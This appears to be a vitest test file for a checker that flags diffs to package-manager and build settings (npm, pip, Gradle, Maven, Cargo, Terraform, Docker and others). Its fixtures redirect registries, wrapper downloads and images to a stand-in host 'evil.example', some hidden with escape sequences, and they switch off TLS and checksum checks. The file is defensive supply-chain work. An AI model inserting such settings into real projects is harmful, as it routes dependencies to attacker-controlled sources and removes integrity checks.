/** Files that say where packages are fetched from: what moves a registry is judged, every other line is nobody's business. */
import { describe, expect, it } from 'vitest';
import { type Change, judgeChange } from './judge.ts';

const evil = 'https://evil.example/registry/';

type Row = readonly [path: string, before: string, after: string];

const commit = (letter: string) => letter.repeat(40);

/** The registry is moved to another host. */
const moved: readonly Row[] = [
  ['.npmrc', 'save-exact=true\n', `save-exact=true\nregistry=${evil}\n`],
  ['.npmrc', 'a=b\n', `a=b\n@acme:registry = "${evil}"\n`],
  ['.npmrc', '', `"registry" = "https:\\u002f\\u002fevil.example/"\n`],
  ['.npmrc', '', `# why\rregistry=${evil}\n`],
  ['pip.conf', '', `[global]\nIndex-URL = ${evil}\n`],
  ['.gitmodules', '', `[submodule "x"] url = ${evil}x.git\n\tpath = x\n`],
  ['.yarnrc.yml', 'a: 1\n', `x: &x\n  npmRegistryServer: ${evil}\n<<: *x\n`],
  ['build.gradle', 'a\n', `a\nrepositories { maven { credentials { username "x" }\n setUrl("${evil}") } }\n`],
  ['build.gradle.kts', 'a\n', `a\nrepositories { maven(url = "${evil}") }\n`],
  ['build.gradle', 'a\n', `a\napply from: "${evil}x.gradle"\n`],
  ['main.tf', 'a\n', 'a\nrequired_providers { x = {\n source = "evil.example/acme/x"\n} }\n'],
  ['web/.npmrc', '', `registry = https://user:secret@evil.example/\n`],
  ['.yarnrc', '', `registry "${evil}"\n`],
  ['.yarnrc', '', `--install.registry "${evil}"\n`],
  ['.yarnrc', '', `--*.registry "${evil}"\n`],
  ['.yarnrc', '', `--registry ${evil}\n`],
  ['main.tofu', 'a\n', 'a\nmodule "x" {\n source = "git::https://evil.example/x.git"\n}\n'],
  ['main.tf.json', '{}', '{"module":{"x":{"source":"git::https://evil.example/x.git"}}}'],
  ['x.tofu.json', '{}', '{"terraform":{"required_providers":{"x":{"source":"evil.example/acme/x"}}}}'],
  [
    '.swiftpm/configuration/mirrors.json',
    '{}',
    `{"object":[{"mirror":"${evil}x","original":"a"}],"version":1}`,
  ],
  ['.swiftpm/configuration/registries.json', '{}', `{"registries":{"[default]":{"url":"${evil}"}}}`],
  ['composer.json', '{}', `{"repositories":[{"type":"composer","url":"${evil}"}]}`],
  ['composer.json', '{}', `{"repositories":{"x":{"type":"composer","url":"${evil}"}}}`],
  ['.yarnrc', '', `"@acme:registry" "${evil}"\n`],
  ['.yarnrc.yml', 'nodeLinker: node-modules\n', `nodeLinker: node-modules\nnpmRegistryServer: "${evil}"\n`],
  ['.yarnrc.yml', 'a: 1\n', `a: 1\nnpmScopes:\n  acme: { npmRegistryServer: '${evil}' }\n`],
  ['.yarnrc.yml', 'a: 1\n', `a: 1\nplugins:\n  - path: .yarn/plugins/x.cjs\n    spec: "${evil}x.js"\n`],
  ['pnpm-workspace.yaml', 'packages: [a]\n', `packages: [a]\nregistry: ${evil}\n`],
  ['bunfig.toml', '', `[install]\nregistry = "${evil}"\n`],
  ['bunfig.toml', '', `[install.scopes]\nacme = { url = "${evil}", token = "$TOKEN" }\n`],
  ['pip.conf', '[global]\ntimeout = 60\n', `[global]\ntimeout = 60\nindex-url = ${evil}\n`],
  ['.config/pip/pip.conf', '', `[global]\nextra-index-url =\n    https://pypi.org/simple\n    ${evil}\n`],
  ['pip.ini', '', `[install]\nfind_links: ${evil}\n`],
  ['setup.cfg', '[metadata]\nname = a\n', `[metadata]\nname = a\n[easy_install]\nindex_url = ${evil}\n`],
  ['uv.toml', '', `[[index]]\nname = "x"\nurl = "${evil}"\n`],
  ['uv.toml', '', `[pip]\nextra-index-url = ["${evil}"]\n`],
  ['pyproject.toml', '[project]\n', `[project]\n[[tool.uv.index]]\nurl = "${evil}"\n`],
  ['pyproject.toml', '[project]\n', `[project]\n[[tool.poetry.source]]\nname = "x"\nurl = "${evil}"\n`],
  ['.condarc', 'a: 1\n', `a: 1\nchannels:\n  - defaults\n  - ${evil}\n`],
  ['poetry.toml', '', `[repositories.x]\nurl = "${evil}"\n`],
  ['Pipfile', '[packages]\n', `[[source]]\nurl = "${evil}"\nname = "x"\n[packages]\n`],
  [
    '.cargo/config.toml',
    '[build]\njobs = 2\n',
    `[build]\njobs = 2\n[source.x]\nregistry = "sparse+${evil}"\n`,
  ],
  ['.cargo/config', '', `[registries.x]\nindex = "${evil}"\n`],
  ['.bundle/config', '---\n', `---\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: "${evil}"\n`],
  [
    'nuget.config',
    '<configuration><packageSources /></configuration>',
    `<configuration><packageSources><add key="x" value="${evil}" /></packageSources></configuration>`,
  ],
  [
    '.mvn/settings.xml',
    '<settings/>',
    `<settings><mirrors><mirror><mirrorOf>*</mirrorOf><url>${evil}</url></mirror></mirrors></settings>`,
  ],
  [
    'pom.xml',
    '<project/>',
    `<project xmlns="http://maven.apache.org/POM/4.0.0"><repositories><repository><id>x</id><url>${evil}</url></repository></repositories></project>`,
  ],
  ['settings.gradle', 'a\n', `a\nrepositories { maven { url "${evil}" } }\n`],
  ['build.gradle.kts', 'a\n', `a\nrepositories { maven { name = "x"; url = uri("${evil}") } }\n`],
  ['build.gradle.kts', 'a\n', `a\nrepositories { maven("${evil}") }\n`],
  ['.gitmodules', '', `[submodule "x"]\n\tpath = x\n\turl = ${evil}x.git\n`],
  ['.pre-commit-config.yaml', 'repos: []\n', `repos:\n  - repo: ${evil}x\n    rev: v1\n`],
  ['main.tf', 'a\n', `a\nmodule "x" {\n  source = "git::${evil}x.git?ref=v1"\n}\n`],
  [
    'gradle/wrapper/gradle-wrapper.properties',
    'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\n',
    'distributionUrl=https\\://evil.example/gradle-8.10-bin.zip\n',
  ],
  [
    '.mvn/wrapper/maven-wrapper.properties',
    'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.9/apache-maven-3.9.9-bin.zip\n',
    'distributionUrl=https://evil.example/apache-maven-3.9.9-bin.zip\n',
  ],
  ['Dockerfile', 'FROM node:22\n', 'FROM evil.example/node:22\n'],
  ['compose.yml', 'image: postgres:17\n', 'image: "evil.example:5000/postgres:17"\n'],
  [
    'Web.csproj',
    '<Project/>',
    `<Project><PropertyGroup><RestoreSources>$(RestoreSources);${evil}</RestoreSources></PropertyGroup></Project>`,
  ],
];

/** A check is switched off. */
const unsafe: readonly Row[] = [
  ['.npmrc', '', 'strict-ssl=false\n'],
  ['.yarnrc.yml', 'a: 1\n', 'a: 1\nenableStrictSsl: false\n'],
  ['.yarnrc.yml', 'a: 1\n', 'a: 1\nchecksumBehavior: update\n'],
  ['.yarnrc.yml', 'a: 1\n', 'a: 1\nunsafeHttpWhitelist:\n  - evil.example\n'],
  ['pip.conf', '', '[global]\ntrusted-host = evil.example\n'],
  ['uv.toml', '', 'allow-insecure-host = ["evil.example"]\n'],
  ['.bundle/config', '---\n', '---\nBUNDLE_SSL_VERIFY_MODE: "0"\n'],
  ['.bundle/config', '---\n', '---\nBUNDLE_DISABLE_CHECKSUM_VALIDATION: "true"\n'],
  ['.mvn/maven.config', '-T1C\n', '-T1C\n-Dmaven.wagon.http.ssl.insecure=true\n'],
  [
    'NuGet.Config',
    '<configuration/>',
    '<configuration><packageSources><add key="n" value="https://api.nuget.org/v3/index.json" allowInsecureConnections="true"/></packageSources></configuration>',
  ],
  ['build.gradle', 'a\n', 'a\nmaven { url "https://plugins.gradle.org/m2"; allowInsecureProtocol = true }\n'],
];

/** Where it leads cannot be seen, or the file cannot be read. */
const unclear: readonly Row[] = [
  ['.npmrc', '', `registry=\${NPM_REGISTRY}\n`],
  ['pip.conf', '', '[global]\nindex-url = https://%(host)s$HOST/simple\n'],
  ['build.gradle', 'a\n', 'a\nrepositories { maven { url mirrorUrl } }\n'],
  ['.yarnrc.yml', 'a: 1\n', 'a: [1\n'],
  ['bunfig.toml', '', '[install\n'],
  ['nuget.config', '<configuration/>', '<!DOCTYPE x [<!ENTITY e "y">]><configuration/>'],
  ['pom.xml', '<project/>', '<project>'],
  ['environment.yml', 'dependencies:\n  - numpy=1.0\n', 'dependencies:\n  - numpy=2.0\n'],
  ['vcpkg.json', '{"dependencies":[]}', '{"dependencies":["zlib"]}'],
];

/** Honest: another line, the public registry, the same place, a comment. */
const quiet: readonly Row[] = [
  ['.npmrc', 'save-exact=true\n', 'save-exact=false\n# registry=https://evil.example\n'],
  ['.npmrc', '', 'registry=https://registry.npmjs.org/\n@jsr:registry=https://npm.jsr.io\n'],
  ['.npmrc', '', `//npm.acme.com/:_authToken=\${TOKEN}\n`],
  ['.yarnrc.yml', 'nodeLinker: pnp\n', 'nodeLinker: node-modules\nenableTelemetry: false\n'],
  ['bunfig.toml', '', '[test]\ncoverage = true\n'],
  ['pip.conf', '', '[global]\ntimeout = 60\nindex-url = https://pypi.org/simple\n'],
  ['setup.cfg', '[flake8]\nmax-line-length = 1\n', '[flake8]\nmax-line-length = 2\n'],
  ['pyproject.toml', '[tool.ruff]\nline-length = 1\n', '[tool.ruff]\nline-length = 2\n'],
  ['.cargo/config.toml', '[build]\njobs = 2\n', '[build]\njobs = 4\n[alias]\nx = "run"\n'],
  ['.bundle/config', '---\n', '---\nBUNDLE_PATH: "vendor/bundle"\n'],
  ['settings.xml', '<settings/>', '<settings><interactiveMode>false</interactiveMode></settings>'],
  [
    'app/res/xml/settings.xml',
    '<PreferenceScreen/>',
    '<PreferenceScreen><url>https://acme.com</url></PreferenceScreen>',
  ],
  [
    'pom.xml',
    '<project><build><plugins><plugin><artifactId>a</artifactId><version>1</version><configuration><x>1</x></configuration></plugin></plugins></build></project>',
    '<project><build><plugins><plugin><artifactId>a</artifactId><version>1</version><configuration><x>2</x></configuration></plugin></plugins></build></project>',
  ],
  [
    'build.gradle',
    'a\n',
    'a\nrepositories { mavenCentral(); google(); maven { url = uri("https://plugins.gradle.org/m2/") } }\n',
  ],
  [
    'build.gradle',
    'publishing { pom { url = "https://acme.com" } }\n',
    'publishing { pom { url = "https://acme.org" } }\n',
  ],
  [
    '.gitmodules',
    '[submodule "x"]\n\tpath = x\n\turl = ../x.git\n',
    '[submodule "x"]\n\tpath = y\n\turl = ../x.git\n',
  ],
  [
    'main.tf',
    'a\n',
    'a\nmodule "x" {\n  source = "terraform-aws-modules/vpc/aws"\n}\nmodule "y" {\n  source = "./y"\n}\n',
  ],
  ['main.tf', 'a\n', 'a\n  source = "registry.terraform.io/hashicorp/aws"\n'],
  ['.mvn/maven.config', '-T1C\n', '-T2C\n--no-transfer-progress\n'],
  [
    'Dockerfile',
    'FROM node:22 AS base\nRUN a\n',
    'FROM node:22 AS base\nRUN b\nFROM base\nCOPY --from=base a b\n',
  ],
  ['.github/workflows/ci.yml', 'on: push\n', 'on: [push, pull_request]\n'],
  ['environment.yml', 'name: a\n', 'name: b\n'],
];

const change = ([path, before, after]: Row): Change => ({
  base: { [path]: before },
  head: { [path]: after },
});

describe('a registry that moves', () => {
  it.each(moved)('%s: %j → %j', async (...row) => {
    const judged = await judgeChange(change(row));
    expect(judged).toMatchObject({ verdict: 'fail', text: expect.stringContaining('evil.example') });
    expect(judged.text).not.toContain('secret');
  });
  it.each(moved)('%s may when it is allowed: %j → %j', async (...row) => {
    const options = { 'allowed-registries': ['public', 'evil.example', 'evil.example:5000'] };
    const judged = await judgeChange({ ...change(row), options });
    expect(judged.text).not.toContain('not among the allowed registries');
  });
  it.each(moved)('%s is no news when it was there: %j → %j', async (path, _, after) => {
    const judged = await judgeChange({ base: { [path]: after }, head: { [path]: `${after}\n` } });
    expect(['pass', 'skip'], judged.text).toContain(judged.verdict);
  });
});

it.each(unsafe)('%s that switches a check off: %j → %j', async (...row) => {
  expect(await judgeChange(change(row))).toMatchObject({
    verdict: 'fail',
    text: expect.stringContaining('switches off a check of packages'),
  });
});

it.each(unclear)('%s that cannot be seen through: %j → %j', async (...row) => {
  const judged = await judgeChange(change(row));
  expect(judged, judged.text).toMatchObject({ verdict: 'unknown' });
});

it.each(quiet)('%s, honest: %j → %j', async (...row) => {
  const judged = await judgeChange(change(row));
  expect(judged.text).toMatch(/^No (lock file changed|package changed in [\w./]+)\.$/);
  expect(['pass', 'skip']).toContain(judged.verdict);
});

describe('what is named and not wrong', () => {
  it.each<[...Row, RegExp]>([
    [
      '.npmrc',
      '@acme:registry=https://npm.acme.com\n',
      '\n',
      /removed @acme:registry = https:\/\/npm\.acme\.com/,
    ],
    ['.yarnrc.yml', 'a: 1\n', 'a: 1\nyarnPath: .yarn/x.cjs\n', /added yarnPath = \.yarn\/x\.cjs/],
    ['.cargo/config.toml', '', '[source.crates-io]\nreplace-with = "vendored"\n', /replace-with = vendored/],
    [
      '.pre-commit-config.yaml',
      'repos: []\n',
      'repos:\n  - repo: https://github.com/psf/black\n    rev: v1\n',
      /psf\/black/,
    ],
    ['.mvn/maven.config', '-T1C\n', '-T1C\n-s other.xml\n', /-s = other\.xml/],
  ])('%s: %j → %j', async (path, before, after, says) => {
    const judged = await judgeChange(change([path, before, after]));
    expect(judged).toMatchObject({ verdict: 'pass', text: expect.stringMatching(says) });
  });
});

it('a settings file that goes is named with what it said', async () => {
  const judged = await judgeChange({ base: { '.npmrc': '@acme:registry=https://npm.acme.com\n' }, head: {} });
  expect(judged).toMatchObject({ verdict: 'pass', text: expect.stringContaining('removed @acme:registry') });
  expect(await judgeChange({ base: { '.npmrc': 'save-exact=true\n' }, head: {} })).toMatchObject({
    verdict: 'skip',
  });
});

describe('a submodule', () => {
  it('of an owner nobody knows', async () => {
    const judged = await judgeChange(
      change(['.gitmodules', '', '[submodule "x"]\n\tpath = x\n\turl = https://github.com/evil/x\n']),
    );
    expect(judged).toMatchObject({ verdict: 'fail', text: expect.stringContaining('github.com/evil') });
  });
});

describe('gradle-wrapper.properties', () => {
  const of = (version: string, sum: string | null, host = 'services.gradle.org/distributions') =>
    `distributionUrl=https\\://${host}/gradle-${version}-bin.zip\n${sum === null ? '' : `distributionSha256Sum=${sum}\n`}`;
  const path = 'gradle/wrapper/gradle-wrapper.properties';
  const [a, b] = [commit('a') + 'a'.repeat(24), commit('b') + 'b'.repeat(24)];
  it.each<[string, string, string, string]>([
    ['an update', of('8.9', a), of('8.10', b), 'pass'],
    ['a checksum that is new', of('8.9', null), of('8.9', a), 'pass'],
    ['another checksum for the same version', of('8.9', a), of('8.9', b), 'fail'],
    ['no checksum any more', of('8.9', a), of('8.9', null), 'fail'],
    ['unencrypted', of('8.9', a), of('8.10', b).replace('https', 'http'), 'fail'],
    [
      'escapes that hide the address',
      of('8.9', a),
      of('8.9', a).replace('services', '\\u0065vil'),
      'unknown',
    ],
  ])('%s', async (_, before, after, verdict) => {
    const judged = await judgeChange(change([path, before, after]));
    expect(judged, judged.text).toMatchObject({ verdict });
  });
  it('its program may come with it, and not alone', async () => {
    const jar = path.replace('.properties', '.jar');
    const alone = await judgeChange({ base: { [jar]: 'a' }, head: { [jar]: 'b' } });
    expect(alone).toMatchObject({
      verdict: 'unknown',
      text: expect.stringContaining('while its properties do not'),
    });
    const both = await judgeChange({
      base: { [jar]: 'a', [path]: of('8.9', a) },
      head: { [jar]: 'b', [path]: of('8.10', b) },
    });
    expect(both).toMatchObject({
      verdict: 'pass',
      text: expect.stringContaining('A program that every build runs changed'),
    });
  });
});
